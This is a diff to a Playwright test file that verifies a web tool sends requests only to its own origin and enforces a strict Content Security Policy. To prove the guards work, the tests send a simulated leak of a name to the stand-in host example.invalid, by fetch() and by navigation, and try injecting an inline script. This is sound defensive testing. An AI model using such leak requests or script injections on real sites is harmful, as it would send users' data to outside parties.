@@ -3,6 +3,7 @@ goes to the site's own origin."""
 
 from __future__ import annotations
 
+import contextlib
 from pathlib import Path
 from urllib.parse import urlsplit
 
@@ -44,12 +45,43 @@ def test_every_request_goes_to_the_own_origin(watched: tuple[BrowserContext, Wat
 
 
 def test_the_foreign_request_check_catches_a_leak(watched: tuple[BrowserContext, Watch], site_url: str) -> None:
-    """The guard itself works: a request to another origin is seen (and blocked here, never sent)."""
+    """The guard itself works: a request to another origin is seen (and aborted here, never sent).
+    A page's own fetch() to elsewhere is already stopped by the CSP; a navigation is not, so use that."""
     context, watch = watched
     context.route("http://example.invalid/**", lambda route: route.abort())
     page = context.new_page()
     page.goto(site_url)
-    page.evaluate("fetch('http://example.invalid/leak?name=Anna').catch(() => null)")
-    page.wait_for_timeout(200)
+    with contextlib.suppress(Exception):
+        page.goto("http://example.invalid/leak?name=Anna")
     assert watch.foreign() == ["http://example.invalid/leak?name=Anna"]
     watch.requests.clear()  # leave the fixture's own end-of-test check clean
+
+
+def test_a_fetch_to_elsewhere_is_blocked_by_the_policy(watched: tuple[BrowserContext, Watch], site_url: str) -> None:
+    context, watch = watched
+    page = open_tool(context.new_page(), site_url)
+    outcome = page.evaluate("fetch('http://example.invalid/leak?name=Anna').then(() => 'sent', () => 'blocked')")
+    assert outcome == "blocked"
+    assert watch.foreign() == []  # never even became a request
+    page.wait_for_timeout(200)
+    assert any("connect-src" in v for v in watch.csp)
+    watch.csp.clear()
+
+
+def test_the_content_security_policy_is_enforced_and_watched(watched: tuple[BrowserContext, Watch], site_url: str) -> None:
+    """The policy blocks what it should (an injected inline script, a foreign image), and the
+    fixture sees each violation, so the other tests' 'no violation' means something."""
+    context, watch = watched
+    page = open_tool(context.new_page(), site_url)
+    policy = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content") or ""
+    for directive in ("default-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'self'", "form-action 'none'"):
+        assert directive in policy
+    assert "'unsafe-inline'" not in policy
+    ran = page.evaluate(
+        """() => { window.__ran = false; const s = document.createElement('script');
+             s.textContent = 'window.__ran = true'; document.body.appendChild(s); return window.__ran; }"""
+    )
+    assert ran is False
+    page.wait_for_timeout(200)
+    assert any("script-src" in v for v in watch.csp)
+    watch.csp.clear()  # seen and checked; leave the fixture's own end-of-test check clean
